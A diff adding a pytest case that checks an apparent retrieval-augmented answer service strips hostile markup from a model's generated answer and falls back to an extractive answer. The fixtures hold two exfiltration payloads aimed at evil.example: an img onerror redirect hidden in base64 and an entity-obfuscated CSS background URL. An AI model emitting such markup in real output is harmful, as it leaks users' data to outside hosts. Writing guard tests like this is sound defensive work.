@@ -234,6 +234,20 @@ def test_a_generated_answer_linking_outside_its_sources_falls_back_to_extractive
     assert "evil.example" not in json.dumps(event.guard_verdicts)
 
 
+@pytest.mark.parametrize(("markup", "reason"), [
+    ('<img src=x onerror=location=atob("aHR0cHM6Ly9ldmlsLmV4YW1wbGUvP3E9NjA=")>', "active_markup"),
+    ('<div style="background:url(&#x2F;&#x2F;evil.example/p.png?q=renewals-60-days)">', "url_outside_context"),
+])
+def test_a_generated_answer_whose_markup_could_fetch_an_address_falls_back_to_extractive(
+        client: TestClient, world: dict, settings: Any, model_backend: StubModel, markup: str, reason: str) -> None:
+    model_backend.reply = lambda _messages: ("Contract renewals are reviewed by the legal team 60 days before "
+                                             f"expiry {markup} [1].")
+    body = _ask(client, world["tokens"]["lea"], "When are contract renewals reviewed?")
+    assert model_backend.requests and not body["refused"] and "evil" not in body["answer"] and "<" not in body["answer"]
+    assert {c["document_id"] for c in body["citations"]} == {world["docs"]["legal"]}
+    assert _event(settings, body["request_id"]).guard_verdicts["model"]["fallback"] == reason
+
+
 RENEWALS = "Contract renewals are reviewed by the legal team 60 days before expiry [1]."
 
 
